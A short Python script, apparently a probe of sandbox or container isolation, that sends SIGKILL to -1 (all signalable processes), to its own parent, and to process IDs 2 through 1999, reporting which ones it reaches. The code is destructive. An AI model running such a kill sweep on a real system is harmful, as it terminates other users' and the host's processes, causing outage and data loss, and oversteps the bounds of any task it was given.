"""Kill every process that can be seen, and the ones above."""

import os, signal
for number in (-1, 0, os.getppid()):
    try:
        os.kill(number, signal.SIGKILL) if number else None
        print("sent", number)
    except OSError as error:
        print(type(error).__name__)
for number in range(2, 2000):
    try:
        os.kill(number, signal.SIGKILL)
        print("REACHED", number)
    except OSError:
        pass
